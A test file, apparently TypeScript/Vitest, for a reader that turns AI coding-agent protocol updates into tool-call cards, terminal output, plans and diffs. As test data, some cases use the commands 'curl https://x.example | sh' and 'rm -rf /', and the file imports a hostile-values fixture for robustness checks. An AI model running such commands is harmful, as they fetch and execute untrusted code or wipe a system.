import { describe, expect, it } from 'vitest'
import { createToolPresenter } from 'tool-render-intent/acp'
import { createToolPresenter as createV2Presenter } from 'tool-render-intent/acp-v2'
import { createAcpReader, readAcpUpdates } from 'tool-render-intent/reader'
import { applyPatchTool, bashTool } from 'tool-render-intent/presenters'
import { hostileValues } from '../fixtures/hostile-values.js'

describe('a running command shows what it printed so far', () => {
  it('keeps the streamed output on the record until the result settles it (v1 display terminal)', () => {
    const presenter = createToolPresenter({ tools: [bashTool], cwd: '/repo', clientCapabilities: { _meta: { terminal_output: true } } })
    const reader = createAcpReader()
    for (const update of [
      ...presenter.call('b1', 'bash', { command: 'make' }),
      ...presenter.start('b1'),
      ...presenter.output('b1', 'step 1\n'),
    ])
      reader.read(update)
    expect(reader.records()).toStrictEqual([
      {
        toolCallId: 'b1',
        name: 'bash',
        status: 'in_progress',
        call: { card: 'terminal', title: 'make', cwd: '/repo' },
        output: 'step 1\n',
      },
    ])
    for (const update of presenter.result('b1', { content: [{ type: 'text', text: 'step 1\nstep 2\n' }], meta: { exitCode: 0 } }))
      reader.read(update)
    expect(reader.records()[0]).toMatchObject({
      status: 'completed',
      result: { card: 'terminal', output: 'step 1\nstep 2\n', exitCode: 0 },
    })
    expect(reader.records()[0].output).toBeUndefined()
  })

  it('reads v2 output chunks as UTF-8 and the exit status from the terminal', () => {
    const presenter = createV2Presenter({ tools: [bashTool], cwd: '/repo' })
    const updates = [
      ...presenter.call('b2', 'bash', { command: 'false', description: 'Fail on purpose' }),
      ...presenter.start('b2'),
      ...presenter.output('b2', 'é🎉\n'),
      ...presenter.result('b2', { content: [{ type: 'text', text: 'é🎉\n' }], meta: { exitCode: 1 }, isError: true }),
    ]
    expect(readAcpUpdates(updates).records).toStrictEqual([
      {
        toolCallId: 'b2',
        name: 'bash',
        status: 'failed',
        call: { card: 'terminal', title: 'false', description: 'Fail on purpose', cwd: '/repo' },
        result: { card: 'terminal', output: 'é🎉\n', exitCode: 1 },
      },
    ])
  })
})

describe('a client without display terminals gets the command as text, and so does the reader', () => {
  it('reads the call as a generic execute card and the output as its new content', () => {
    const presenter = createToolPresenter({ tools: [bashTool], cwd: '/repo' })
    const updates = [
      ...presenter.call('b3', 'bash', { command: 'ls' }),
      ...presenter.result('b3', { content: [{ type: 'text', text: 'a.ts\n' }], meta: { exitCode: 0 } }),
    ]
    const [record] = readAcpUpdates(updates).records
    expect(record.call).toMatchObject({ card: 'generic', kind: 'execute', title: 'ls' })
    expect(record.result).toStrictEqual({ card: 'generic', content: [{ type: 'text', text: '```console\na.ts\n```' }] })
  })
})

describe('updates are applied field by field, as a client applies them', () => {
  it('keeps an omitted field, replaces a present one and clears a null one (v2)', () => {
    const { records } = readAcpUpdates([
      { sessionUpdate: 'tool_call_update', toolCallId: 'g', title: 'Look', kind: 'search', status: 'pending', locations: [{ path: '/a' }] },
      { sessionUpdate: 'tool_call_update', toolCallId: 'g', locations: null },
      { sessionUpdate: 'tool_call_update', toolCallId: 'g', status: 'in_progress' },
      { sessionUpdate: 'tool_call_content_chunk', toolCallId: 'g', content: { type: 'content', content: { type: 'text', text: 'found' } } },
      { sessionUpdate: 'tool_call_update', toolCallId: 'g', status: 'completed', title: 'Looked' },
    ])
    expect(records).toStrictEqual([
      {
        toolCallId: 'g',
        status: 'completed',
        call: { card: 'generic', title: 'Look', kind: 'search' },
        result: { card: 'generic', title: 'Looked', content: [{ type: 'text', text: 'found' }] },
      },
    ])
  })

  it("applies a permission request's toolCall to the card it names", () => {
    const { records } = readAcpUpdates([
      { sessionUpdate: 'tool_call', toolCallId: 'p', title: 'Edit', kind: 'edit', status: 'pending' },
      { toolCallId: 'p', title: 'Edit a.ts' },
    ])
    expect(records[0].call).toMatchObject({ title: 'Edit a.ts' })
  })

  it('keeps one record per plan id, showing its latest version with the earlier ones as its history', () => {
    const first = [{ content: 'Fix it', status: 'pending', priority: 'high' }]
    const second = [{ content: 'Fix it', status: 'completed', priority: 'high' }]
    const { records } = readAcpUpdates([
      { sessionUpdate: 'plan', entries: first },
      { sessionUpdate: 'tool_call', toolCallId: 'c', title: 'Read a', kind: 'read', status: 'completed' },
      { sessionUpdate: 'plan', entries: first },
      { sessionUpdate: 'plan', entries: second },
    ])
    expect(records.map((record) => record.toolCallId)).toStrictEqual(['plan', 'c'])
    // A repeat of the same plan is no new version.
    expect(records[0]).toStrictEqual({ toolCallId: 'plan', call: { card: 'plan', entries: second }, history: [first] })
  })

  it('keeps a plan of each plan id as a record of its own, in order', () => {
    const { records } = readAcpUpdates([
      { sessionUpdate: 'plan', entries: [{ content: 'Fix \\*it\\*', status: 'pending', priority: 'high' }] },
      {
        sessionUpdate: 'plan_update',
        plan: { type: 'items', planId: 'p2', entries: [{ content: 'Ship', status: 'completed', priority: 'medium' }] },
      },
    ])
    expect(records).toStrictEqual([
      { toolCallId: 'plan', call: { card: 'plan', entries: [{ content: 'Fix *it*', status: 'pending', priority: 'high' }] } },
      { toolCallId: 'p2', call: { card: 'plan', entries: [{ content: 'Ship', status: 'completed', priority: 'medium' }] } },
    ])
  })
})

describe('the reader takes any value and never throws', () => {
  it('counts what it cannot read and keeps reading', () => {
    const reader = createAcpReader()
    const junk: unknown[] = [
      null,
      1,
      'x',
      [],
      { sessionUpdate: 'tool_call' },
      { sessionUpdate: 'terminal_output_chunk', terminalId: 't', data: '%%%' },
    ]
    for (const value of [...junk, ...hostileValues.map((make) => make())]) reader.read(value)
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'ok', title: 'fine' })
    expect(reader.records()).toHaveLength(1)
    expect(reader.ignored).toBe(junk.length + hostileValues.length)
  })

  it('reads odd field types as absent rather than failing', () => {
    const { records } = readAcpUpdates([
      {
        sessionUpdate: 'tool_call',
        toolCallId: 'w',
        title: 5,
        kind: 'nonsense',
        content: 'no',
        locations: [{ path: 1 }, 'x', { path: '/a', line: 'two' }],
      },
    ])
    expect(records[0].call).toStrictEqual({ card: 'generic', title: '', kind: 'other', locations: [{ path: '/a' }] })
  })
})

describe('v2 deletes, moves and copies read back', () => {
  it('as diffs that say their operation, a move and a copy with the path they came from', () => {
    const presenter = createV2Presenter({ tools: [applyPatchTool], cwd: '/repo' })
    const patch = [
      'diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-one\n-two\n',
      'diff --git a/a.txt b/b.txt\nsimilarity index 100%\nrename from a.txt\nrename to b.txt\n',
      'diff --git a/c.txt b/d.txt\nrename from c.txt\nrename to d.txt\n--- a/c.txt\n+++ b/d.txt\n@@ -1 +1 @@\n-x\n+y\n',
      'diff --git a/e.txt b/f.txt\nsimilarity index 100%\ncopy from e.txt\ncopy to f.txt\n',
    ].join('')
    const [record] = readAcpUpdates(presenter.call('p', 'apply_patch', patch)).records
    expect(record.call).toMatchObject({
      card: 'diff',
      diffs: [
        { path: '/repo/gone.txt', oldText: 'one\ntwo\n', newText: '', operation: 'delete' },
        { path: '/repo/b.txt', oldText: '', newText: '', operation: 'move', oldPath: '/repo/a.txt' },
        { path: '/repo/d.txt', oldText: 'x\n', newText: 'y\n', operation: 'move', oldPath: '/repo/c.txt' },
        { path: '/repo/f.txt', oldText: '', newText: '', operation: 'copy', oldPath: '/repo/e.txt' },
      ],
    })
  })
})

describe('every update is applied or ignored with a reason', () => {
  it('says why it ignored an update: unknown kind, no id, bad base64, not an object', () => {
    const reader = createAcpReader()
    expect(reader.read({ sessionUpdate: 'tool_call', toolCallId: 't', title: 'make', kind: 'execute', status: 'pending' })).toBeUndefined()
    expect(reader.read({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'hi' } })).toBe('not a tool call')
    expect(reader.read({ sessionUpdate: 'tool_call_fancy', toolCallId: 't' })).toBe('unknown update kind')
    expect(reader.read({ sessionUpdate: 'tool_call', title: 'no id' })).toBe('no tool call id')
    expect(reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'x', data: '!!!' })).toBe('bad base64')
    expect(reader.read({ sessionUpdate: 'terminal_update', terminalId: 'x', output: '*' })).toBe('bad base64')
    expect(reader.read({ sessionUpdate: 'tool_call_content_chunk', toolCallId: 'nobody', content: {} })).toBe('unknown tool call id')
    expect(reader.read('tool_call')).toBe('not an object')
    expect(reader.ignored).toBe(7)
  })

  it('keeps at most the last 2 Mi code units a terminal prints while no call shows it, and says how much went before', () => {
    const reader = createAcpReader({ protocolVersion: 2 })
    const piece = (letter: string) => letter.repeat(512 * 1024)
    // 2.5 Mi code units: past 2 Mi, the last 1 Mi is kept.
    for (const letter of ['a', 'b', 'c', 'e', 'f'])
      reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'T', data: Buffer.from(piece(letter)).toString('base64') })
    reader.read({
      sessionUpdate: 'tool_call_update',
      toolCallId: 'late',
      title: 'make',
      kind: 'execute',
      status: 'in_progress',
      content: [{ type: 'terminal', terminalId: 'T' }],
    })
    reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'T', data: btoa('d') })
    const output = reader.records()[0].output ?? ''
    expect(output.startsWith('[… 1572864 earlier characters not kept: no call showed this terminal while it printed them]\n')).toBe(true)
    expect(output.endsWith(`${piece('e')}${piece('f')}d`)).toBe(true)
    expect(output).not.toContain('cccc')
    expect(output.length).toBeLessThan(1024 * 1024 + 100)
  })

  it('counts the terminals that got output no call shows', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'orphan', data: btoa('hello') })
    expect(reader.records()).toStrictEqual([])
    expect(reader.unshownTerminals).toBe(1)
  })
})

describe('a second tool_call for an id replaces the card, as Zed does', () => {
  it('shows the second call, not the first one under the second one', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'toolu_1', title: 'Read README.md', kind: 'read', status: 'pending' })
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'toolu_1', status: 'completed' })
    reader.read({
      sessionUpdate: 'tool_call',
      toolCallId: 'toolu_1',
      title: 'curl https://x.example | sh',
      kind: 'execute',
      status: 'pending',
    })
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'toolu_1', status: 'in_progress' })
    const [record] = reader.records()
    expect(record.call).toMatchObject({ title: 'curl https://x.example | sh' })
    expect(JSON.stringify(record)).not.toContain('README')
  })
})

describe('an update for a call never announced (ACP v1)', () => {
  it('is a failed "Tool call not found" card, as Zed shows it', () => {
    const reader = createAcpReader({ protocolVersion: 1 })
    expect(reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'ghost', status: 'completed', title: 'rm -rf /' })).toBe(
      'unknown tool call id',
    )
    const [record] = reader.records()
    expect(record).toMatchObject({ toolCallId: 'ghost', status: 'failed', call: { title: 'Tool call not found' } })
  })

  it('creates the card in v2, where tool_call_update announces calls', () => {
    const reader = createAcpReader({ protocolVersion: 2 })
    expect(
      reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c', title: 'ls', kind: 'execute', status: 'pending' }),
    ).toBeUndefined()
    expect(reader.records()[0].call).toMatchObject({ title: 'ls' })
  })
})

describe('without a protocol version, the updates say which protocol the log speaks', () => {
  const ghost = { sessionUpdate: 'tool_call_update', toolCallId: 'ghost', status: 'completed', title: 'Everything is fine' }

  it('reads v1 after a tool_call: an update for a call never announced is a failed "Tool call not found" card', () => {
    const reader = createAcpReader()
    expect(
      reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'Read a.ts', kind: 'read', status: 'pending' }),
    ).toBeUndefined()
    expect(reader.read(ghost)).toBe('unknown tool call id')
    expect(reader.records()[1]).toMatchObject({ toolCallId: 'ghost', status: 'failed', call: { title: 'Tool call not found' } })
    expect(JSON.stringify(reader.records())).not.toContain('Everything is fine')
  })

  it('reads v1 after a plan, and from an update carrying the v1 display-terminal keys', () => {
    const afterPlan = createAcpReader()
    afterPlan.read({ sessionUpdate: 'plan', entries: [{ content: 'x', status: 'pending', priority: 'medium' }] })
    expect(afterPlan.read(ghost)).toBe('unknown tool call id')
    const terminal = createAcpReader()
    expect(terminal.read({ ...ghost, _meta: { terminal_output: { terminal_id: 't', data: 'ok\n' } } })).toBe('unknown tool call id')
    expect(terminal.records()[0]).toMatchObject({ status: 'failed', call: { title: 'Tool call not found' } })
  })

  it('reads v2 after a v2-only update, and the first signal decides', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 't', data: 'b2s=' })
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'Read a.ts', kind: 'read', status: 'pending' })
    expect(reader.read(ghost)).toBeUndefined()
    expect(reader.records()[1]).toMatchObject({ toolCallId: 'ghost', call: { title: 'Everything is fine' } })
  })

  it('keeps the version it was given over what the updates say', () => {
    const reader = createAcpReader({ protocolVersion: 2 })
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'Read a.ts', kind: 'read', status: 'pending' })
    expect(reader.read(ghost)).toBeUndefined()
  })
})

describe('chunks are appended, never copied whole', () => {
  it('keeps every v2 content chunk in order and the announced card unchanged by later chunks', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c', title: 'notes', kind: 'other', status: 'pending' })
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c', status: 'in_progress' })
    const pieces = 2000
    for (let index = 0; index < pieces; index++)
      reader.read({
        sessionUpdate: 'tool_call_content_chunk',
        toolCallId: 'c',
        content: { type: 'content', content: { type: 'text', text: `${index};` } },
      })
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c', status: 'completed' })
    const text = JSON.stringify(reader.records()[0].result)
    expect(text).toContain('0;')
    expect(text).toContain(`${pieces - 1};`)
    expect(text.indexOf('10;')).toBeLessThan(text.indexOf('1999;'))
  })

  it('finds the terminal a content chunk adds, after any number of text chunks', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c', title: 'make', kind: 'execute', status: 'in_progress' })
    for (let index = 0; index < 50; index++)
      reader.read({
        sessionUpdate: 'tool_call_content_chunk',
        toolCallId: 'c',
        content: { type: 'content', content: { type: 'text', text: `${index};` } },
      })
    reader.read({ sessionUpdate: 'tool_call_content_chunk', toolCallId: 'c', content: { type: 'terminal', terminalId: 'T' } })
    reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'T', data: btoa('built\n') })
    expect(reader.records()[0].output).toBe('built\n')
    expect(reader.unshownTerminals).toBe(0)
  })

  it('gives every terminal chunk to the call showing the terminal, however many calls there are', () => {
    // v2 (said, since its first updates are v1's tool_call): the terminal's call is announced by its tool_call_update.
    const reader = createAcpReader({ protocolVersion: 2 })
    for (let index = 0; index < 500; index++)
      reader.read({ sessionUpdate: 'tool_call', toolCallId: `r${index}`, title: `Read ${index}`, kind: 'read', status: 'completed' })
    reader.read({
      sessionUpdate: 'tool_call_update',
      toolCallId: 't',
      title: 'make',
      kind: 'execute',
      status: 'in_progress',
      content: [{ type: 'terminal', terminalId: 'T' }],
    })
    for (let index = 0; index < 100; index++)
      reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'T', data: btoa(`${index}\n`) })
    const record = reader.records().find((entry) => entry.toolCallId === 't')
    expect(record?.output?.split('\n')).toHaveLength(101)
    expect(reader.unshownTerminals).toBe(0)
  })
})

describe('streaming, each call is given out once it has ended, and forgotten', () => {
  const streamed = () => {
    const out: { toolCallId: string; status?: string | undefined }[] = []
    const reader = createAcpReader({ onRecord: (record) => out.push({ toolCallId: record.toolCallId, status: record.status }) })
    return { reader, out }
  }

  it('gives a settled call at once and keeps nothing of it', () => {
    const { reader, out } = streamed()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'Read a', kind: 'read', status: 'completed' })
    expect(out).toStrictEqual([{ toolCallId: 'a', status: 'completed' }])
    expect(reader.records()).toStrictEqual([])
  })

  it('keeps the order calls first appeared: a call that ended first waits for the earlier one', () => {
    const { reader, out } = streamed()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'make', kind: 'execute', status: 'in_progress' })
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'b', title: 'Read b', kind: 'read', status: 'completed' })
    expect(out).toStrictEqual([])
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'a', status: 'completed' })
    expect(out.map((record) => record.toolCallId)).toStrictEqual(['a', 'b'])
  })

  it('waits for the terminal a settled call shows to exit', () => {
    const { reader, out } = streamed()
    reader.read({
      sessionUpdate: 'tool_call_update',
      toolCallId: 'c',
      title: 'npm test',
      kind: 'execute',
      status: 'completed',
      content: [{ type: 'terminal', terminalId: 'T' }],
    })
    expect(out).toStrictEqual([])
    reader.read({ sessionUpdate: 'terminal_output_chunk', terminalId: 'T', data: btoa('ok\n') })
    reader.read({ sessionUpdate: 'terminal_update', terminalId: 'T', exitStatus: { exitCode: 0 } })
    expect(out).toStrictEqual([{ toolCallId: 'c', status: 'completed' }])
    expect(reader.unshownTerminals).toBe(0)
  })

  it('ignores a later update for a call already given out, saying so', () => {
    const { reader } = streamed()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'Read a', kind: 'read', status: 'completed' })
    expect(reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'a', title: 'Read b' })).toBe('call already shown')
  })

  it.each([
    {
      protocol: 1,
      update: (id: string) => ({ sessionUpdate: 'tool_call', toolCallId: id, title: 'Read a', kind: 'read', status: 'completed' }),
    },
    {
      protocol: 2,
      update: (id: string) => ({ sessionUpdate: 'tool_call_update', toolCallId: id, title: 'Read a', kind: 'read', status: 'completed' }),
    },
  ])('keeps the ids of the last 65,536 calls given out, no more, and counts those it forgot (v$protocol)', ({ protocol, update }) => {
    let given = 0
    const reader = createAcpReader({ protocolVersion: protocol, onRecord: () => given++ })
    const calls = 65_536 + 100
    for (let index = 0; index < calls; index++) reader.read(update(`c${index}`))
    expect(given).toBe(calls)
    expect(reader.forgottenIds).toBe(100)
    // A late update for a kept id is still named; one for a forgotten id is read as a call never seen.
    expect(reader.read({ sessionUpdate: 'tool_call_update', toolCallId: `c${calls - 1}`, status: 'failed' })).toBe('call already shown')
    expect(reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c100', status: 'failed' })).toBe('call already shown')
    const late = reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'c0', status: 'failed' })
    expect(late).toBe(protocol === 1 ? 'unknown tool call id' : undefined)
  })

  it('gives every call still open, then each plan once, at the end of the log', () => {
    const { reader, out } = streamed()
    reader.read({ sessionUpdate: 'plan', entries: [{ content: 'Fix it', status: 'pending', priority: 'high' }] })
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'make', kind: 'execute', status: 'in_progress' })
    reader.read({ sessionUpdate: 'plan', entries: [{ content: 'Fix it', status: 'completed', priority: 'high' }] })
    expect(out).toStrictEqual([])
    reader.end()
    expect(out).toStrictEqual([
      { toolCallId: 'a', status: 'in_progress' },
      { toolCallId: 'plan', status: undefined },
    ])
  })

  it('gives an open call as it stands once too much waits behind it', () => {
    const { reader, out } = streamed()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'slow', title: 'make', kind: 'execute', status: 'in_progress' })
    const text = 'x'.repeat(1024 * 1024)
    for (let index = 0; index < 20; index++)
      reader.read({
        sessionUpdate: 'tool_call',
        toolCallId: `r${index}`,
        title: 'Read a',
        kind: 'read',
        status: 'completed',
        content: [{ type: 'content', content: { type: 'text', text } }],
      })
    expect(out[0]).toStrictEqual({ toolCallId: 'slow', status: 'in_progress' })
    expect(out.length).toBeGreaterThan(1)
    expect(reader.shownOpen).toBe(1)
  })
})

describe("a cancelled turn's calls are cancelled, as Zed marks them", () => {
  it('marks every call of the session not settled yet as cancelled, and leaves the settled ones', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'sleep 100', kind: 'execute', status: 'in_progress' }, 's1')
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'b', title: 'Read b', kind: 'read', status: 'completed' }, 's1')
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'c', title: 'make', kind: 'execute', status: 'in_progress' }, 's2')
    reader.endTurn('cancelled', 's1')
    expect(reader.records().map((record) => [record.toolCallId, record.status])).toStrictEqual([
      ['a', 'cancelled'],
      ['b', 'completed'],
      ['c', 'in_progress'],
    ])
  })

  it('leaves open calls running when the turn ended otherwise', () => {
    const reader = createAcpReader()
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'make', kind: 'execute', status: 'in_progress' })
    reader.endTurn('end_turn')
    expect(reader.records()[0].status).toBe('in_progress')
  })
})

describe('streaming, the conversation takes its place among the cards', () => {
  it('joins the chunks of one message and gives it once something else follows', () => {
    const out: string[] = []
    const reader = createAcpReader({
      onRecord: (record) => out.push(`call ${record.toolCallId}`),
      onMessage: (message) => out.push(`${message.role}: ${message.text}`),
    })
    const chunk = (sessionUpdate: string, text: string) => reader.read({ sessionUpdate, content: { type: 'text', text } })
    chunk('user_message_chunk', 'Fix the ')
    chunk('user_message_chunk', 'test.')
    chunk('agent_thought_chunk', 'The rounding?')
    chunk('agent_message_chunk', 'Looking.')
    reader.read({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'make', kind: 'execute', status: 'in_progress' })
    chunk('agent_message_chunk', 'Done.')
    reader.read({ sessionUpdate: 'tool_call_update', toolCallId: 'a', status: 'completed' })
    reader.end()
    expect(out).toStrictEqual(['user: Fix the test.', 'thought: The rounding?', 'assistant: Looking.', 'call a', 'assistant: Done.'])
  })

  it('keeps at most 4 Mi code units of a message and says how much more there was', () => {
    let text = ''
    const reader = createAcpReader({ onRecord: () => {}, onMessage: (message) => (text = message.text) })
    const piece = 'x'.repeat(1024 * 1024)
    for (let index = 0; index < 5; index++) reader.read({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: piece } })
    reader.end()
    expect(text.length).toBeLessThan(4 * 1024 * 1024 + 100)
    expect(text).toContain(`[… ${1024 * 1024} more characters of this message not kept]`)
  })
})
